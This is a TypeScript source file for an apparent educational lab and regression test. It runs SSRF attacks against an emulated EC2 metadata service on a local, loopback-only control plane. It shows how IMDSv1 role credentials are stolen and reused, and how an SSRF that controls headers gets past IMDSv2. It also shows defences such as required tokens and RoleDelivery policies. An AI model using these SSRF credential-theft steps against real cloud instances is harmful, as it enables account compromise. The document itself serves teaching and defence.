/**
 * `credplane lab ssrf`: a runnable lesson and a regression test at once. It starts a private
 * credplane (temporary data directory, loopback only), runs one EC2 instance with a deliberately
 * vulnerable web application, attacks it scenario by scenario and reports what was sent, what came
 * back, and whether each scenario behaved as described. Everything it starts it stops and deletes.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { signBodyRequest, type SigningCredentials } from '../../../sigv4/sign.js';
import type { Store } from '../../../store/store.js';
import type { ImdsService } from '../service.js';
import { startOpenProxy, type OpenProxy } from './open-proxy.js';
import { redact, type LabReport, type LabScenario, type LabStep } from './report.js';
import { runHopLimitScenario } from './hop-limit.js';
import { startVulnerableApp, type VulnerableApp } from './vulnerable-app.js';

const ACCOUNT = '123456789012';
const REGION = 'us-east-1';
const ROLE = 'ssrf-lab-web';
const INSTANCE_NAME = 'ssrf-lab-web';

/** What the lab uses of a running control plane. */
export interface LabPlane {
  url: string;
  store: Store;
  admin: SigningCredentials;
  imds: Pick<ImdsService, 'reconcile' | 'find'>;
  stop(): Promise<void>;
}

/**
 * Starts a private control plane for the lab: `server/start.ts`'s `startControlPlane`, handed in
 * by the CLI (the lab is a service; start-up sits above it).
 */
export type StartLabPlane = (settings: {
  dataDir: string;
  port: number;
  accountId: string;
  region: string;
  env: Record<string, string>;
}) => Promise<LabPlane>;

export interface SsrfLabOptions {
  startPlane: StartLabPlane;
  /** Try the hop-limit scenario in network namespaces (Linux, root); true by default. */
  netns?: boolean;
}

interface Lab {
  plane: LabPlane;
  app: VulnerableApp;
  imdsUrl: string;
  instanceId: string;
  admin: SigningCredentials;
}

interface Reply {
  status: number;
  body: string;
}

async function request(url: string, init: RequestInit = {}): Promise<Reply> {
  const res = await fetch(url, { ...init, signal: AbortSignal.timeout(10_000) });
  return { status: res.status, body: await res.text() };
}

/** The attacker's request to the vulnerable app; returns the metadata service's status and body. */
async function ssrf(
  lab: Lab,
  metadataPath: string,
  more: { method?: string; headers?: string[] } = {},
): Promise<LabStep & { body: string }> {
  const query = new URLSearchParams({ url: new URL(metadataPath.slice(1), lab.imdsUrl).toString() });
  if (more.method !== undefined) query.set('method', more.method);
  for (const h of more.headers ?? []) query.append('header', h);
  const sent = `GET ${lab.app.url}fetch?${query.toString()}`;
  const reply = await request(`${lab.app.url}fetch?${query.toString()}`);
  const match = /^upstream status (\d+)\n([\s\S]*)$/.exec(reply.body);
  const status = match === null ? reply.status : Number(match[1]);
  const body = match === null ? reply.body : match[2]!;
  return { sent: redact(decodeURIComponent(sent)), status, received: redact(body), body };
}

/** A signed Query API call to the lab's control plane. */
async function api(
  lab: Lab,
  service: 'sts' | 'iam' | 'ec2',
  credentials: SigningCredentials,
  params: Record<string, string>,
): Promise<LabStep & { body: string }> {
  const body = new URLSearchParams(params).toString();
  const url = new URL(lab.plane.url);
  const headers = signBodyRequest(
    { method: 'POST', url, body, contentType: 'application/x-www-form-urlencoded; charset=utf-8' },
    credentials,
    REGION,
    service,
  );
  const reply = await request(lab.plane.url, { method: 'POST', headers, body });
  const who = credentials === lab.admin ? 'admin' : `${credentials.accessKeyId.slice(0, 8)}…`;
  const code = /<Code>([^<]+)<\/Code>/.exec(reply.body)?.[1];
  const arn = /<Arn>([^<]+)<\/Arn>/.exec(reply.body)?.[1];
  return {
    sent: `${service} ${params.Action} signed with ${who}`,
    status: reply.status,
    received: code ?? arn ?? (reply.status === 200 ? 'OK' : reply.body.slice(0, 200)),
    body: reply.body,
  };
}

function credentialsOf(json: string): SigningCredentials | undefined {
  try {
    const doc = JSON.parse(json) as Record<string, unknown>;
    if (
      typeof doc.AccessKeyId !== 'string' ||
      typeof doc.SecretAccessKey !== 'string' ||
      typeof doc.Token !== 'string'
    ) {
      return undefined;
    }
    return { accessKeyId: doc.AccessKeyId, secretAccessKey: doc.SecretAccessKey, sessionToken: doc.Token };
  } catch {
    return undefined;
  }
}

async function setHttpTokens(lab: Lab, httpTokens: 'optional' | 'required'): Promise<LabStep> {
  const step = await api(lab, 'ec2', lab.admin, {
    Action: 'ModifyInstanceMetadataOptions',
    Version: '2016-11-15',
    InstanceId: lab.instanceId,
    HttpTokens: httpTokens,
  });
  await lab.plane.imds.reconcile();
  return { sent: `${step.sent} (HttpTokens=${httpTokens})`, status: step.status, received: step.received };
}

async function setUp(dataDir: string, startPlane: StartLabPlane): Promise<Lab> {
  const plane = await startPlane({ dataDir, port: 0, accountId: ACCOUNT, region: REGION, env: {} });
  try {
    const store = plane.store;
    await store.createRole(ACCOUNT, {
      roleName: ROLE,
      assumeRolePolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' },
        ],
      }),
    });
    await store.putRolePolicy(
      ACCOUNT,
      ROLE,
      'read-own-role',
      JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Action: ['iam:GetRole', 'iam:ListRoles'], Resource: '*' }],
      }),
    );
    await store.createInstanceProfile(ACCOUNT, { instanceProfileName: ROLE });
    await store.addRoleToInstanceProfile(ACCOUNT, ROLE, ROLE);
    const instanceId = `i-${randomBytes(9).toString('hex').slice(0, 17)}`;
    await store.putWorkload(ACCOUNT, {
      kind: 'ec2-instance',
      name: INSTANCE_NAME,
      roleName: ROLE,
      settings: { instanceId, instanceProfileName: ROLE, metadataOptions: { httpTokens: 'optional' } },
    });
    await plane.imds.reconcile();
    const endpoint = plane.imds.find(instanceId);
    if (endpoint === undefined) throw new Error('the lab instance has no metadata endpoint');
    const app = await startVulnerableApp();
    return { plane, app, imdsUrl: endpoint.url, instanceId, admin: plane.admin };
  } catch (error) {
    await plane.stop();
    throw error;
  }
}

const ROLE_LIST = '/latest/meta-data/iam/security-credentials/';
const ROLE_DOC = `/latest/meta-data/iam/security-credentials/${ROLE}`;

async function scenario1(lab: Lab): Promise<{ scenario: LabScenario; stolen?: SigningCredentials }> {
  const steps: LabStep[] = [await setHttpTokens(lab, 'optional')];
  const list = await ssrf(lab, ROLE_LIST);
  const doc = await ssrf(lab, ROLE_DOC);
  steps.push(list, doc);
  const stolen = credentialsOf(doc.body);
  let arn = '';
  if (stolen !== undefined) {
    const who = await api(lab, 'sts', stolen, { Action: 'GetCallerIdentity', Version: '2011-06-15' });
    steps.push({ ...who, sent: `${who.sent} (from outside the instance)` });
    arn = who.status === 200 ? who.received : '';
  }
  const behaved =
    list.status === 200 &&
    list.body === ROLE &&
    stolen !== undefined &&
    arn === `arn:aws:sts::${ACCOUNT}:assumed-role/${ROLE}/${lab.instanceId}`;
  return {
    stolen,
    scenario: {
      id: 1,
      title: 'HttpTokens=optional: a GET-only SSRF steals the role credentials',
      expected: 'the role name and credentials come back through the SSRF, and work from outside',
      observed: behaved
        ? `stole credentials of ${arn}`
        : `role list ${list.status}, credentials ${doc.status}, identity '${arn}'`,
      behaved,
      steps,
      lesson:
        'IMDSv1 answers any GET from the instance, so any SSRF that can fetch a URL can read the credentials.',
    },
  };
}

async function scenario2(lab: Lab): Promise<LabScenario> {
  const steps: LabStep[] = [await setHttpTokens(lab, 'required')];
  const list = await ssrf(lab, ROLE_LIST);
  const doc = await ssrf(lab, ROLE_DOC);
  const token = await ssrf(lab, '/latest/api/token');
  steps.push(list, doc, token);
  const behaved = list.status === 401 && doc.status === 401 && token.status === 405;
  return {
    id: 2,
    title: 'HttpTokens=required: the same attack gets 401',
    expected: 'role list and credentials answer 401; a GET on the token path answers 405',
    observed: `role list ${list.status}, credentials ${doc.status}, GET token ${token.status}`,
    behaved,
    steps,
    lesson:
      'IMDSv2 needs a token that only a PUT with the X-aws-ec2-metadata-token-ttl-seconds header obtains, and every ' +
      'GET must carry it in X-aws-ec2-metadata-token. A GET-only SSRF can do neither.',
  };
}

async function scenario3(lab: Lab): Promise<{ scenario: LabScenario; proxy: OpenProxy }> {
  const proxy = await startOpenProxy(new URL(lab.imdsUrl));
  const viaProxy = await request(`${proxy.url}latest/api/token`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '21600' },
  });
  const direct = await request(`${lab.imdsUrl}latest/api/token`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '21600' },
  });
  const steps: LabStep[] = [
    {
      sent: `PUT ${proxy.url}latest/api/token (through the open proxy, which adds X-Forwarded-For)`,
      status: viaProxy.status,
      received: redact(viaProxy.body),
    },
    {
      sent: `PUT ${lab.imdsUrl}latest/api/token (on the instance, no proxy)`,
      status: direct.status,
      received: redact(direct.body),
    },
  ];
  const behaved = viaProxy.status === 403 && direct.status === 200;
  return {
    proxy,
    scenario: {
      id: 3,
      title: 'An open reverse proxy in front of the metadata service',
      expected: 'token requests through the proxy are refused with 403; direct ones succeed',
      observed: `through the proxy ${viaProxy.status}, direct ${direct.status}`,
      behaved,
      steps,
      lesson:
        'Proxies add X-Forwarded-For; IMDSv2 refuses to issue tokens to such requests (and token-bearing GETs with it).',
    },
  };
}

async function scenario4(lab: Lab, stolen: SigningCredentials | undefined): Promise<LabScenario> {
  await lab.plane.store.putRolePolicy(
    ACCOUNT,
    ROLE,
    'refuse-imdsv1-credentials',
    JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Deny',
          Action: '*',
          Resource: '*',
          Condition: { NumericLessThan: { 'ec2:RoleDelivery': '2.0' } },
        },
      ],
    }),
  );
  const steps: LabStep[] = [
    {
      sent: `iam PutRolePolicy ${ROLE}: Deny * when NumericLessThan ec2:RoleDelivery 2.0`,
      status: 200,
      received: 'OK',
    },
  ];
  let refused = false;
  if (stolen !== undefined) {
    const getRole = await api(lab, 'iam', stolen, {
      Action: 'GetRole',
      Version: '2010-05-08',
      RoleName: ROLE,
    });
    const listRoles = await api(lab, 'iam', stolen, { Action: 'ListRoles', Version: '2010-05-08' });
    steps.push(
      { ...getRole, sent: `${getRole.sent} (stolen in scenario 1)` },
      { ...listRoles, sent: `${listRoles.sent} (stolen)` },
    );
    refused = getRole.status === 403 && listRoles.status === 403;
  }
  // The instance's own software, using IMDSv2 properly, keeps working.
  const token = await request(`${lab.imdsUrl}latest/api/token`, {
    method: 'PUT',
    headers: { 'x-aws-ec2-metadata-token-ttl-seconds': '60' },
  });
  const doc = await request(`${lab.imdsUrl}latest/meta-data/iam/security-credentials/${ROLE}`, {
    headers: { 'x-aws-ec2-metadata-token': token.body },
  });
  const legitimate = credentialsOf(doc.body);
  let allowed = false;
  if (legitimate !== undefined) {
    const getRole = await api(lab, 'iam', legitimate, {
      Action: 'GetRole',
      Version: '2010-05-08',
      RoleName: ROLE,
    });
    steps.push({ ...getRole, sent: `${getRole.sent} (IMDSv2-delivered, on the instance)` });
    allowed = getRole.status === 200;
  }
  return {
    id: 4,
    title: 'A policy defence: require ec2:RoleDelivery 2.0',
    expected: 'the IMDSv1 credentials stolen in scenario 1 are refused; IMDSv2-delivered ones still work',
    observed: `stolen credentials ${refused ? 'refused' : 'NOT refused'}, IMDSv2 credentials ${allowed ? 'allowed' : 'NOT allowed'}`,
    behaved: refused && allowed,
    steps,
    lesson:
      'Credentials carry how they were delivered. A Deny on ec2:RoleDelivery < 2.0 (e.g. in an SCP) makes IMDSv1-stolen ' +
      'credentials useless even where HttpTokens is still optional. (GetCallerIdentity still answers: it needs no permission.)',
  };
}

async function scenario5(lab: Lab): Promise<LabScenario> {
  const token = await ssrf(lab, '/latest/api/token', {
    method: 'PUT',
    headers: ['X-aws-ec2-metadata-token-ttl-seconds: 21600'],
  });
  const doc = await ssrf(lab, ROLE_DOC, { headers: [`X-aws-ec2-metadata-token: ${token.body}`] });
  const behaved = token.status === 200 && doc.status === 200 && credentialsOf(doc.body) !== undefined;
  return {
    id: 5,
    title: 'The honest limit: an SSRF that controls the method and headers',
    expected: 'it obtains a token and then the (IMDSv2) credentials',
    observed: `token ${token.status}, credentials ${doc.status}`,
    behaved,
    steps: [token, doc],
    lesson:
      'IMDSv2 is no authentication boundary against code that can send arbitrary requests from the instance. ' +
      'Mitigate with least privilege, conditions that bind credentials to their network (aws:SourceVpc-style), ' +
      'hop limit 1 so containers cannot reach the token API, IRSA/Pod Identity instead of the node role, and ' +
      'HttpEndpoint=disabled where nothing needs metadata.',
  };
}

/**
 * Run every scenario and clean up.
 *
 * @example
 * const report = await runSsrfLab({ startPlane: startControlPlane });
 * if (!report.ok) process.exitCode = 1;
 */
export async function runSsrfLab(options: SsrfLabOptions): Promise<LabReport> {
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'credplane-lab-ssrf-'));
  let lab: Lab | undefined;
  let proxy: OpenProxy | undefined;
  try {
    lab = await setUp(dataDir, options.startPlane);
    const scenarios: LabScenario[] = [];
    const first = await scenario1(lab);
    scenarios.push(first.scenario);
    scenarios.push(await scenario2(lab));
    const third = await scenario3(lab);
    proxy = third.proxy;
    scenarios.push(third.scenario);
    scenarios.push(await scenario4(lab, first.stolen));
    scenarios.push(await scenario5(lab));
    scenarios.push(await runHopLimitScenario({ enabled: options.netns ?? true }));
    // Steps are built from replies that hold the raw bodies; only what was shown may leave.
    const shown = scenarios.map((s) => ({
      ...s,
      steps: s.steps.map(({ sent, status, received }) => ({ sent, status, received })),
    }));
    return { ok: shown.every((s) => s.behaved || s.skipped !== undefined), scenarios: shown };
  } finally {
    await proxy?.close();
    await lab?.app.close();
    await lab?.plane.stop();
    fs.rmSync(dataDir, { recursive: true, force: true });
  }
}
